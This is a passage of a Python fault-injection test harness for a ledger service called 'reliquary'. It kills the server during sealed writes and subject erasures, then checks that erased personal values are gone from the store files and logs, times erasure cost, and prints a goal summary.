    def __init__(self, fx: Fixture, tag: str, researchers: list[str]) -> None:
        super().__init__(fx, tag, [SEALED_MODEL])
        self.researchers = researchers

    def researcher_of(self, number: int) -> str:
        return self.researchers[number % len(self.researchers)]

    def new_job(self) -> Job:
        with self.lock:
            number = len(self.jobs)
            body = {
                **_sealed_values(self.tag, number),
                "request_id": f"{self.tag}-{number}",
                "requester_group": "academic",
            }
            job = Job(
                number,
                f"{self.tag}-{number}-{uuid.uuid4().hex[:8]}",
                path_of(SEALED_MODEL, "/access-requests"),
                json_bytes(body),
                time.monotonic(),
            )
            self.jobs.append(job)
        return job

    def headers(self, job: Job) -> list[tuple[str, str | bytes]]:
        token = self.fx.tokens[self.researcher_of(job.number)]
        return [*bearer(token), ("Idempotency-Key", job.key)]

    def stored(self) -> Counter[int]:
        """Requests by job number (the request id is public; the marker is sealed)."""
        return Counter(number for number, _ in self.requests())

    def requests(self) -> list[tuple[int, dict[str, Any]]]:
        """Every stored AccessRequested of this run: (job number, its state)."""
        found = []
        prefix = f"{self.tag}-"
        for state in self.fx.store._states_containing(prefix.encode()):  # noqa: SLF001
            document = json.loads(state)
            request_id = document.get("request_id", "")
            if isinstance(request_id, str) and request_id.startswith(prefix):
                found.append((int(request_id[len(prefix) :]), document))
        return found


def _commitments(value: Any) -> list[tuple[str, str]]:
    """(commitment, subject) of every sealed value in a stored event's state."""
    if isinstance(value, dict):
        if value.get("_type_") == "sealed":
            data = value["_data_"]
            return [(data["commitment"], data["subject"])]
        return [pair for item in value.values() for pair in _commitments(item)]
    if isinstance(value, list):
        return [pair for item in value for pair in _commitments(item)]
    return []


def sealing_and_erasure(fx: Fixture, settings: Settings) -> dict[str, Any]:
    """Requests with sealed values written while the service is killed; then every researcher
    but one erased, each erasure killed right after it is sent; then what the store holds."""
    kills, seed = settings.sealing_kills, settings.seed + 7
    people = 3 if settings.quick else 6
    _say(f"  7. sealing and erasure ({kills} kills while sealing, {people} erasures killed)")
    rng = random.Random(seed)
    researchers = [f"faults-researcher-{n}" for n in range(people + 1)]  # the last one is kept
    for actor, role in [(r, "researcher") for r in researchers] + [("faults-board", "board")]:
        issued = cli(fx.store, "actors", "add", actor, "--role", role, "--json")
        if issued.returncode != 0:
            raise HarnessError(f"reliquary actors add failed: {_last_line(issued.stderr)}")
        fx.tokens[actor] = json.loads(issued.stdout)["token"]
    fx.must(fx.post(path_of(SEALED_MODEL), register_body()), "register the sealed model")
    writers = SealedWriters(fx, f"s{uuid.uuid4().hex[:6]}", researchers)
    world = World(fx.server)
    running = threading.Event()
    running.set()
    threads = _run_writers(writers, world, settings.writers, seed, running)
    try:
        modes, _, failure = _kill_during(fx, writers, world, kills, rng)
    finally:
        running.clear()
    if failure:
        world.abort.set()
        _join(threads, 30)
        return {"kills": sum(modes.values()), "error": f"the server did not start again: {failure}"}
    _join(threads, STUCK_AFTER + 60)
    for job in writers.pending:
        writers.drive(job, world, rng)
    result: dict[str, Any] = {"sealing": writers.count(), "kills": sum(modes.values())}
    # The board reads the register: the views catch up and hold every value opened, the ones
    # about to be erased too (so that the files have them to lose).
    register = exchange(fx.port, "GET", f"/registers/access?model={SEALED_MODEL}",
                        headers=bearer(fx.tokens["auditor"]), timeout=120)  # fmt: skip
    result["register_read"] = register.label

    # Each erasure is sent, and the service killed as soon as it is; the board then retries
    # the same request under the same key until it has a final answer.
    erasures = Writers(fx, writers.tag + "e", [SEALED_MODEL])
    erase_answers: Counter[str] = Counter()
    for number, researcher in enumerate(researchers[:-1]):
        job = Job(
            number,
            f"{erasures.tag}-{number}-{uuid.uuid4().hex[:8]}",
            path_of(SEALED_MODEL, f"/subjects/{researcher}/erase"),
            json_bytes({"rationale": "Erasure asked for by the fault suite."}),
            time.monotonic(),
        )
        headers = [*bearer(fx.tokens["faults-board"]), ("Idempotency-Key", job.key)]
        world.down.set()
        # The kill lands 0 to 300 ms after the request is sent: before the erasure's commit,
        # between its commit and its scrub, or after both (an erasure takes tens to hundreds
        # of milliseconds, most of it the scrub).
        delay = rng.uniform(0.0, 0.3)
        first = exchange(fx.port, "POST", job.path, headers=headers, body=job.body, timeout=30,
                         after_send=functools.partial(_kill_after, fx.server, delay))  # fmt: skip
        erase_answers[first.label] += 1
        fx.server.kill()
        fx.server.start()
        world.ready_at = time.monotonic()
        world.down.clear()
        while job.final is None and not STOP.is_set():
            answer = exchange(fx.port, "POST", job.path, headers=headers, body=job.body,
                              timeout=60)  # fmt: skip
            erase_answers[answer.label] += 1
            if answer.status is None or answer.status >= 500:
                time.sleep(0.1)
            elif answer.status == 409 and answer.problem == "idempotency-in-progress":
                time.sleep(_retry_after(answer, rng))
            else:
                job.final = answer
            if time.monotonic() - world.ready_at > STUCK_AFTER + 30:
                raise HarnessError(f"erasure {job.key} had no final answer")
        erasures.jobs.append(job)
    fx.server.stop()
    result["erasure_answers"] = dict(erase_answers.most_common())

    result["erasures_acknowledged"] = sum(1 for j in erasures.jobs if j.acknowledged)
    result.update(_erasure_counts(fx.store, writers, people))
    done = cli(fx.store, "scrub", "--json")
    said = " ".join(done.stdout.decode(errors="replace").split()) or _last_line(done.stderr)
    result["scrub_command"] = {"exit": done.returncode, "said": said[:300]}
    result["pending_after_scrub_command"] = sum(
        1 for (key,) in fx.store.rows("SELECT key FROM ledger_subjects") if key == ""
    )
    result["verify"] = _verify(fx)
    result["files"] = _erased_in_files(fx.store, writers, people)
    # What the service wrote to its log (stdout and stderr, every start) during the run.
    log = fx.server.log_path.read_bytes()
    every = [
        value.encode()
        for job in writers.jobs
        for value in _sealed_values(writers.tag, job.number).values()
    ]
    result["service_log"] = {
        "bytes": len(log),
        "values_looked_for": len(every),
        "values_found": sum(1 for value in every if value in log),
    }
    fx.server.start()
    return result


def _kill_after(server: Server, seconds: float) -> None:
    time.sleep(seconds)
    server.kill()


def _erasure_counts(store: Store, writers: SealedWriters, people: int) -> dict[str, Any]:
    """Per person: erasure events, key state and openings; whether each erasure is whole."""
    subject_of: dict[str, str] = {}
    incomplete = 0
    openings = {
        commitment for (commitment,) in store.rows("SELECT commitment FROM ledger_openings")
    }
    keys = dict(store.rows("SELECT subject, key FROM ledger_subjects"))
    for number, state in writers.requests():
        sealed = _commitments(state)
        subject_of.setdefault(writers.researcher_of(number), sealed[0][1])
        subject = sealed[0][1]
        if keys.get(subject) and any(c not in openings for c, _ in sealed):
            incomplete += 1  # an active person's request missing an opening
    erased_events: Counter[str] = Counter()
    for state in store._states_containing(b'"subject":"ps:'):  # noqa: SLF001
        document = json.loads(state)
        if isinstance(document.get("subject"), str):
            erased_events[document["subject"]] += 1
    erased = [subject_of.get(r) for r in writers.researchers[:people]]
    kept = subject_of.get(writers.researchers[people])
    left_openings = Counter(s for (s,) in store.rows("SELECT subject FROM ledger_openings"))
    return {
        "requests_missing_openings": incomplete,
        "erased_people": people,
        "erasure_events": {str(s): erased_events[s] for s in erased if s},
        "people_erased_twice_or_never": sum(1 for s in erased if erased_events[s or ""] != 1),
        "event_without_destroyed_key": sum(
            1 for s in erased_events if keys.get(s) not in (None, "")
        ),
        "destroyed_key_without_event": sum(
            1 for s, key in keys.items() if key in (None, "") and not erased_events[s]
        ),
        "openings_left_of_erased": sum(left_openings[s] for s in erased if s),
        "kept_person_openings": left_openings[kept] if kept else 0,
        "scrub_pending_before_command": sum(1 for key in keys.values() if key == ""),
    }


def _erased_in_files(store: Store, writers: SealedWriters, people: int) -> dict[str, Any]:
    """How many erased values the store's raw files still hold; and the kept person's."""
    files = store.raw_files()
    if files is None:
        return {"read": False}
    blob = b"\0".join(files.values())
    erased: list[bytes] = []
    kept: list[bytes] = []
    for job in writers.jobs:
        values = _sealed_values(writers.tag, job.number)
        if writers.researcher_of(job.number) in writers.researchers[:people]:
            erased += [value.encode() for value in values.values()]
        else:  # the register holds these opened (a rationale only sealed, in the openings)
            kept += [values[name].encode() for name in REGISTER_FIELDS]
    return {
        "read": True,
        "files": len(files),
        "bytes": len(blob),
        "erased_values_looked_for": len(erased),
        "erased_values_found": sum(1 for v in erased if v in blob),
        "kept_values_found": sum(1 for v in kept if v in blob),
        "kept_values_looked_for": len(kept),
    }


def print_sealing(result: dict[str, Any]) -> None:
    if "error" in result:
        print(f"7. Sealing and erasure: {result['error']}\n")
        return
    print_writes(
        "7. Sealing and erasure: request_access (sealed values) while the service is killed",
        result["sealing"],
        f"faults: {result['kills']} kills",
    )
    answers = ", ".join(f"{label} x{n}" for label, n in result["erasure_answers"].items())
    print(
        f"   erasures: {result['erased_people']} people erased, the service killed 0 to 300 ms "
        f"after each erasure was sent, then retried under its key: {answers}"
    )
    print(
        f"   stored: erased twice or never {result['people_erased_twice_or_never']}, an event "
        f"without its destroyed key {result['event_without_destroyed_key']}, a destroyed key "
        f"without its event {result['destroyed_key_without_event']}, openings left of erased "
        f"people {result['openings_left_of_erased']}, requests missing an opening "
        f"{result['requests_missing_openings']}; scrubs left pending by a kill "
        f"{result['scrub_pending_before_command']}, after `reliquary scrub` "
        f"{result['pending_after_scrub_command']}"
    )
    files = result["files"]
    if files.get("read"):
        print(
            f"   the store's raw files ({files['files']} files, {files['bytes']:,} bytes): "
            f"{files['erased_values_found']} of {files['erased_values_looked_for']} erased "
            f"values found; {files['kept_values_found']} of {files['kept_values_looked_for']} "
            "values of the person kept (the reading works)"
        )
    else:
        print("   the store's raw files: not readable by this role")
    log = result["service_log"]
    print(
        f"   the service's log ({log['bytes']:,} bytes, every start): {log['values_found']} of "
        f"{log['values_looked_for']} private values found"
    )
    print(f"   reliquary verify: exit {result['verify']['exit']} ({result['verify']['said']})")
    print()


# -- 8. what an erasure costs ------------------------------------------------------------------


def erasure_cost(store: Store, requests: int) -> dict[str, Any]:
    """An erasure on a big register, timed against an ordinary command in the same process.

    In process, on a new store beside the run's: ``requests`` access requests (10 per
    person, imported), the views caught up; then the median of 20 ``record_signal`` commands
    (the baseline), one erasure (its scrub included), and the median of 3 scrubs alone.
    """
    # The repository's packages before this folder's scripts (bench/projections.py would
    # shadow the `projections` package).
    sys.path.insert(0, str(ROOT))
    from api.bootstrap import build_ledger, build_views
    from api.settings import Settings as AppSettings
    from domain.commands import parse_command_object

    _say(f"  8. erasure cost on a register of {requests} requests")
    url = store.fresh_url(f"cost_{uuid.uuid4().hex[:8]}")
    settings = AppSettings(database_url=url)
    ledger = build_ledger(settings)
    model = "cost-model"

    def command(name: str, role: str, actor: str = "cost-board", **fields: Any) -> Any:
        return parse_command_object(
            {"command": name, "model": model, "actor": {"id": actor, "role": role}, **fields}
        )

    try:
        ledger.execute(command("register_model", "curator", "cost-curator", **register_body()))
        people = max(1, requests // 10)
        began = time.monotonic()
        ledger.import_commands(
            command(
                "request_access",
                "researcher",
                f"cost-researcher-{n % people}",
                request_id=f"cost-{n}",
                requester=f"Cost Person {n % people}",
                organisation=f"Cost Organisation {n}",
                requester_group="academic",
                purpose=f"cost purpose {n}",
                scope="API",
                rationale=f"cost rationale {n}",
            )
            for n in range(requests)
        )
        imported = time.monotonic() - began
        views = build_views(ledger, settings, tables_exist=True)
        views.catch_up()
        sizes = _table_sizes(store, url)
        baseline = []
        for n in range(20):
            began = time.monotonic()
            ledger.execute(command("record_signal", "curator", "cost-curator",
                                   **signal_body(f"cost baseline {n}")))  # fmt: skip
            baseline.append(time.monotonic() - began)
        began = time.monotonic()
        ledger.execute(command("erase_subject", "board", subject="cost-researcher-0",
                               rationale="Erasure cost."))  # fmt: skip
        erase_seconds = time.monotonic() - began
        scrubs = []
        for _ in range(3):
            began = time.monotonic()
            done = ledger.scrub_erased(force=True)
            scrubs.append(time.monotonic() - began)
        base = sorted(baseline)[len(baseline) // 2]
        scrub = sorted(scrubs)[1]
        return {
            "requests": requests,
            "people": people,
            "import_seconds": round(imported, 1),
            "tables": sizes,
            "baseline_command_ms": round(base * 1000, 1),
            "erasure_ms": round(erase_seconds * 1000, 1),
            "scrub_ms": round(scrub * 1000, 1),
            "erasure_vs_command": round(erase_seconds / base, 1),
            "scrub_vs_command": round(scrub / base, 1),
            "scrub": done.detail,
        }
    finally:
        ledger.close()


def _table_sizes(store: Store, url: str) -> dict[str, int]:
    """Bytes of the tables a scrub rewrites (PostgreSQL), or of the SQLite file."""
    if isinstance(store, PostgresStore):
        schema = url.rpartition("schema=")[2]
        return {
            table: int(
                store.conn()
                .execute("SELECT pg_total_relation_size(%s)", (f"{schema}.{table}",))
                .fetchone()[0]
            )
            for table in ("view_access_requests", "ledger_openings", "ledger_subjects")
        }
    path = Path(url.removeprefix("sqlite:///"))
    return {"file": path.stat().st_size}


def print_cost(result: dict[str, Any]) -> None:
    print(f"8. What an erasure costs, on a register of {result['requests']:,} requests "
          f"({result['people']:,} people; imported in {result['import_seconds']} s)")  # fmt: skip
    sizes = ", ".join(f"{name} {size / MIB:.1f} MiB" for name, size in result["tables"].items())
    print(f"   sizes: {sizes}")
    print(
        f"   an ordinary command {result['baseline_command_ms']} ms (median of 20); an erasure "
        f"{result['erasure_ms']} ms ({result['erasure_vs_command']}x), of which the scrub alone "
        f"{result['scrub_ms']} ms ({result['scrub_vs_command']}x, median of 3): {result['scrub']}"
    )
    print()


# -- the run and its summary --------------------------------------------------------------------


@dataclass
class Settings:
    sizes: tuple[int, ...]
    kills: int | None
    terminations: int
    writers: int
    starts: int
    per_writer: int
    seed: int
    keys: bool = True
    only: frozenset[str] = frozenset("12345678")
    quick: bool = False
    sealing_kills: int = 20
    cost_requests: int = 20_000

    def kills_for(self, store: Store) -> int:
        """Kills of scenario 3: with scenario 4's rounds, 100 faults per backend (quick: 12)."""
        if self.kills is not None:
            return self.kills
        total = 12 if self.quick else 100
        if isinstance(store, PostgresStore) and "4" in self.only:
            return total - self.terminations
        return total


def run_backend(backend: str, settings: Settings, stack: contextlib.ExitStack) -> dict[str, Any]:
    workdir = Path(
        stack.enter_context(tempfile.TemporaryDirectory(prefix=f"reliquary-faults-{backend}-"))
    )
    store: Store = SQLiteStore(workdir) if backend == "sqlite" else PostgresStore(workdir)
    stack.callback(store.close)
    stack.callback(_end_all_children)
    results: dict[str, Any] = {"backend": backend}
    if isinstance(store, PostgresStore):
        results["database"] = store.database
        results["max_connections"] = store.max_connections()
    _say(f"{backend}: preparing a fresh store")
    fx = prepare(store)
    stack.callback(fx.server.stop)
    results["server_start_seconds"] = round(fx.server.start_seconds[0], 2)

    def scenario(key: str, run: Callable[[], dict[str, Any]]) -> None:
        try:
            fx.server.ensure_running()
            results[key] = run()
        except ServiceDown as error:
            results[key] = {"error": f"the service did not start: {error}"}

    wanted = settings.only
    if "1" in wanted:
        scenario("hostile_bodies", lambda: hostile_bodies(fx, settings.sizes))
    if "2" in wanted:
        scenario("hostile_inputs", lambda: hostile_inputs(fx))
    if "6" in wanted:
        scenario("eight_writers", lambda: eight_writers(fx, settings.per_writer, settings.seed))
        scenario("eight_processes", lambda: eight_processes(fx, settings.per_writer))
    if "3" in wanted:
        scenario("killed", lambda: killed_mid_request(fx, settings))
    if "4" in wanted and isinstance(store, PostgresStore):
        scenario("terminated", lambda: terminated_connections(fx, settings))
    if "7" in wanted:
        scenario("sealing", lambda: sealing_and_erasure(fx, settings))
    fx.server.stop()
    if "8" in wanted:
        results["erasure_cost"] = erasure_cost(store, settings.cost_requests)
    if "5" in wanted:
        results["starts"] = simultaneous_starts(store, settings.starts)
    results["server_log_tail"] = fx.server.log_tail(5)
    return results


def print_backend(results: dict[str, Any]) -> None:
    backend = results["backend"]
    print(f"== {backend} " + "=" * (90 - len(backend)))
    if "database" in results:
        print(f"   database {results['database']} (max_connections {results['max_connections']})")
    print(f"   the service starts in {results['server_start_seconds']} s")
    print()
    if "error" in results.get("hostile_bodies", {}):
        print(f"1. Hostile bodies: {results['hostile_bodies']['error']}\n")
    elif "hostile_bodies" in results:
        print_hostile_bodies(results["hostile_bodies"])
    if "error" in results.get("hostile_inputs", {}):
        print(f"2. Hostile inputs: {results['hostile_inputs']['error']}\n")
    elif "hostile_inputs" in results:
        print_hostile_inputs(results["hostile_inputs"])
    if "killed" in results:
        killed = results["killed"]
        modes = ", ".join(f"{n} {mode}" for mode, n in killed.get("kill_modes", {}).items())
        print_writes(
            "3. Killed mid-request (SIGKILL, restart; clients retry their keys)",
            killed,
            f"faults: {killed['kills']} kills ({modes})"
            + (
                f", restart {killed['restart_seconds']} s on average"
                if "restart_seconds" in killed
                else ""
            ),
        )
    if "terminated" in results:
        term = results["terminated"]
        print_writes(
            "4. PostgreSQL connections terminated during writes",
            term,
            f"faults: {term.get('faults', 0)} rounds of pg_terminate_backend, "
            f"{term.get('connections_terminated', 0)} connections terminated",
        )
    if "starts" in results:
        print_starts(results["starts"])
    if "sealing" in results:
        print_sealing(results["sealing"])
    if "erasure_cost" in results:
        print_cost(results["erasure_cost"])
    if "eight_writers" in results:
        print_writes(
            "6. 8 writers on one model (a concurrency-conflict retried up to 5 times)",
            results["eight_writers"],
            "no faults injected",
        )
    if "eight_processes" in results:
        part = results["eight_processes"]
        print("6b. 8 `reliquary apply` processes on one model, at once (each stops at a refusal)")
        if "error" in part:
            print(f"   {part['error']}")
        else:
            codes = ", ".join(f"exit {code} x{n}" for code, n in part["exit_codes"].items())
            print(
                f"   sent: {part['lines']} lines in 8 files; came back: {codes} in "
                f"{part['seconds']} s"
            )
            for error in part["errors"]:
                print(f"   {error['count']} x {error['first']}")
            print(
                f"   stored: {part['stored']} of {part['lines']}; lost {part['lost']}, duplicated "
                f"{part['duplicated']}, given up {part['given_up']}, refused yet stored "
                f"{part['refused_yet_stored']}"
            )
        print()


def summary(results: dict[str, Any], quick: bool) -> list[dict[str, Any]]:
    """One row per goal: the check, the measured figure, the goal, met or not (None: no goal)."""
    rows: list[dict[str, Any]] = []

    def add(check: str, figure: Any, met: bool | None, goal: str = "0") -> None:
        rows.append(
            {"backend": results["backend"], "check": check, "figure": figure, "goal": goal,
             "met": met}
        )  # fmt: skip

    bodies = results.get("hostile_bodies", {})
    if "cases" in bodies:
        n, ok, peak = (
            len(bodies["cases"]),
            bodies["answered_as_goal"],
            bodies["max_peak_above_idle_mb"],
        )
        add("1 bodies answered 413 (or 401 without token)", f"{ok}/{n}", ok == n, "all")
        add("1 server peak RSS above idle", f"{peak:.1f} MB (idle {bodies['idle_rss_mb']:.0f} MB)",
            peak < PEAK_GOAL_MB, f"< {PEAK_GOAL_MB:.0f} MB")  # fmt: skip
        add("1 events appended by hostile bodies", bodies["events_appended"],
            bodies["events_appended"] == 0)  # fmt: skip
    elif bodies:
        add("1 hostile bodies", bodies["error"][:60], False, "runs")
    inputs = results.get("hostile_inputs", {})
    if "cases" in inputs:
        errors, refusable = inputs["server_errors"], inputs["events_by_refusable"]
        add("2 hostile inputs answered 5xx", f"{errors}/{inputs['requests']}", errors == 0)
        add("2 events appended by refusable requests", refusable, refusable == 0)
        accepted, csv = inputs["accepted_but_should_refuse"], inputs["csv_formula_cells"]
        add("2 refusable requests accepted", accepted, accepted == 0)
        add("2 server deaths", inputs["server_deaths"], inputs["server_deaths"] == 0)
        add("2 CSV report cells starting a formula", "report failed" if csv is None else csv,
            csv == 0)  # fmt: skip
    elif inputs:
        add("2 hostile inputs", inputs["error"][:60], False, "runs")
    faults = 0
    for key, label in (("killed", "3 killed"), ("terminated", "4 terminated")):
        part = results.get(key)
        if not part:
            continue
        faults += part.get("kills", part.get("faults", 0))
        if "error" in part:
            add(f"{label}: the run", part["error"][:60], False, "runs")
            continue
        add(f"{label}: stuck keys", f"{part['stuck']}/{part['keys']}", part["stuck"] == 0)
        add(f"{label}: duplicated commands", part["duplicated"], part["duplicated"] == 0)
        add(f"{label}: lost acknowledged commands", part["lost"], part["lost"] == 0)
        add(f"{label}: reliquary verify exit", part["verify"]["exit"], part["verify"]["exit"] == 0)
    if faults:
        target = 100
        add("3+4 faults injected", faults, None if quick else faults >= target,
            f">= {target}" + (" (full run)" if quick else ""))  # fmt: skip
    starts = results.get("starts")
    if starts:
        failed, n, stored = starts["failures"], starts["processes"], starts["events_stored"]
        add("5 simultaneous starts failed", f"{failed}/{n}", failed == 0)
        add("5 models stored", f"{stored}/{n}", stored == n, "all")
    sealing = results.get("sealing", {})
    if "error" in sealing:
        add("7 sealing and erasure: the run", sealing["error"][:60], False, "runs")
    elif sealing:
        part = sealing["sealing"]
        add("7 sealed writes: stuck keys", f"{part['stuck']}/{part['keys']}", part["stuck"] == 0)
        bad = part["lost"] + part["duplicated"]
        add("7 sealed writes: lost or duplicated", bad, bad == 0)
        add("7 requests missing an opening", sealing["requests_missing_openings"],
            sealing["requests_missing_openings"] == 0)  # fmt: skip
        add("7 people erased twice or never", sealing["people_erased_twice_or_never"],
            sealing["people_erased_twice_or_never"] == 0)  # fmt: skip
        split = sealing["event_without_destroyed_key"] + sealing["destroyed_key_without_event"]
        add("7 erasure event and key destruction apart", split, split == 0)
        add("7 openings left of erased people", sealing["openings_left_of_erased"],
            sealing["openings_left_of_erased"] == 0)  # fmt: skip
        add("7 scrubs pending after `reliquary scrub`", sealing["pending_after_scrub_command"],
            sealing["pending_after_scrub_command"] == 0)  # fmt: skip
        files = sealing["files"]
        if files.get("read"):
            found = files["erased_values_found"]
            add("7 erased values in the raw files",
                f"{found}/{files['erased_values_looked_for']}", found == 0)  # fmt: skip
            kept = files["kept_values_found"]
            add("7 kept values in the raw files (control)",
                f"{kept}/{files['kept_values_looked_for']}",
                kept == files["kept_values_looked_for"], "all")  # fmt: skip
        logged = sealing["service_log"]
        add("7 private values in the service's log",
            f"{logged['values_found']}/{logged['values_looked_for']}",
            logged["values_found"] == 0)  # fmt: skip
        add("7 reliquary verify exit", sealing["verify"]["exit"], sealing["verify"]["exit"] == 0)
    cost = results.get("erasure_cost")
    if cost:
        add("8 erasure vs ordinary command", f"{cost['erasure_vs_command']}x", None, "measured")
    writers = results.get("eight_writers", {})
    if "keys" in writers:
        bad = writers["lost"] + writers["duplicated"]
        add("6 HTTP: lost or duplicated", bad, bad == 0)
        add("6 HTTP: given up (concurrency-conflict)", f"{writers['given_up']}/{writers['keys']}",
            writers["given_up"] == 0)  # fmt: skip
    processes = results.get("eight_processes", {})
    if "lines" in processes:
        bad = processes["lost"] + processes["duplicated"]
        add("6 apply: lost or duplicated", bad, bad == 0)
        add("6 apply: lines given up", f"{processes['given_up']}/{processes['lines']}",
            processes["given_up"] == 0)  # fmt: skip
    return rows


def print_summary(rows: list[dict[str, Any]]) -> None:
    print("== summary against the goals " + "=" * 64)
    print(f"   {'backend':<9} {'check':<46} {'figure':<26} {'goal':<17} result")
    for row in rows:
        met = {True: "met", False: "NOT met", None: "-"}[row["met"]]
        print(
            f"   {row['backend']:<9} {row['check']:<46} {str(row['figure'])[:26]:<26} "
            f"{row['goal']:<17} {met}"
        )


def _interrupt(signum: int, _frame: object) -> None:
    raise KeyboardInterrupt(f"signal {signum}")


def signal_period(n: int) -> tuple[date, date]:
    """The n-th period no other signal of a model uses (the ledger keeps one value a period).

    Periods start on one of 500 days from 2024-04-01 and last 1 + n // 500 days, so they stay
    distinct, and in the past, for n below 235,000.
    """
    start = date(2024, 4, 1) + timedelta(days=n % 500)
    return start, start + timedelta(days=n // 500)


def main(argv: list[str] | None = None) -> int:
    """Run every scenario on each backend and print (or JSON); 2 on a harness error."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--backend", choices=["sqlite", "postgres", "both"], default="both")
    parser.add_argument("--quick", action="store_true", help="fewer faults and processes")
    parser.add_argument("--json", action="store_true", help="print the results as JSON")
    parser.add_argument(
        "--kills",
        type=int,
        help="server kills (scenario 3) per backend: 100 on SQLite, 100 less the "
        "terminations on PostgreSQL (quick: 12, 6)",
    )
    parser.add_argument(
        "--terminations", type=int, help="pg_terminate_backend rounds (50; quick 6)"
    )
    parser.add_argument("--starts", type=int, help="simultaneous starts (50; quick 20)")
    parser.add_argument(
        "--sealing-kills", type=int, help="kills while sealed values are written (20; quick 6)"
    )
    parser.add_argument(
        "--cost-requests",
        type=int,
        help="access requests in the register an erasure is timed on (20,000; quick 2,000)",
    )
    parser.add_argument("--seed", type=int, default=12)
    parser.add_argument(
        "--only", default="1,2,3,4,5,6,7,8", help="the scenarios to run, e.g. 3,4 (default: all)"
    )
    parser.add_argument(
        "--without-keys",
        action="store_true",
        help="control run: the writers of 3 and 4 send no Idempotency-Key (duplicates expected)",
    )
    args = parser.parse_args(argv)
    settings = Settings(
        sizes=(10, 100, 300),
        kills=args.kills,
        quick=args.quick,
        terminations=args.terminations
        if args.terminations is not None
        else (6 if args.quick else 50),
        writers=4,
        starts=args.starts if args.starts is not None else (20 if args.quick else 50),
        per_writer=10 if args.quick else 50,
        seed=args.seed,
        keys=not args.without_keys,
        only=frozenset(part.strip() for part in args.only.split(",")),
        sealing_kills=args.sealing_kills
        if args.sealing_kills is not None
        else (6 if args.quick else 20),
        cost_requests=args.cost_requests
        if args.cost_requests is not None
        else (2_000 if args.quick else 20_000),
    )
    if not settings.only <= set("12345678"):
        parser.error("--only takes scenario numbers from 1 to 8, e.g. 3,4")
    # Explicitly: a shell starts a background job with SIGINT ignored, which Python keeps.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    signal.signal(signal.SIGTERM, _interrupt)
    backends = ["sqlite", "postgres"] if args.backend == "both" else [args.backend]
    began = time.monotonic()
    everything: dict[str, Any] = {
        "date": datetime.now(UTC).strftime("%Y-%m-%d"),
        "quick": args.quick,
        "settings": {**settings.__dict__, "only": sorted(settings.only)},
        "lease_seconds": LEASE_SECONDS,
        "backends": {},
    }
    rows: list[dict[str, Any]] = []
    try:
        for backend in backends:
            stack = contextlib.ExitStack()
            try:
                results = run_backend(backend, settings, stack)
            except BaseException:
                STOP.set()  # every worker thread ends before the processes and stores go
                raise
            finally:
                # A second Ctrl-C must not interrupt the cleaning up.
                previous = signal.signal(signal.SIGINT, signal.SIG_IGN)
                try:
                    stack.close()
                finally:
                    signal.signal(signal.SIGINT, previous)
            everything["backends"][backend] = results
            rows += summary(results, args.quick)
            if not args.json:
                print_backend(results)
    except KeyboardInterrupt:
        STOP.set()
        print("interrupted; everything the run made is removed", file=sys.stderr)
        return 130
    except HarnessError as error:
        STOP.set()
        print(f"harness error: {error}", file=sys.stderr)
        return 2
    finally:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        STOP.set()
        _end_all_children()
    everything["summary"] = rows
    everything["seconds"] = round(time.monotonic() - began, 1)
    if args.json:
        print(json.dumps(everything, indent=2, default=str))
    else:
        print_summary(rows)
        print(
            f"   {everything['seconds']:.0f} s; lease {LEASE_SECONDS:.0f} s; a key is stuck after "
            f"{STUCK_AFTER:.0f} s of uptime without a final answer"
        )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
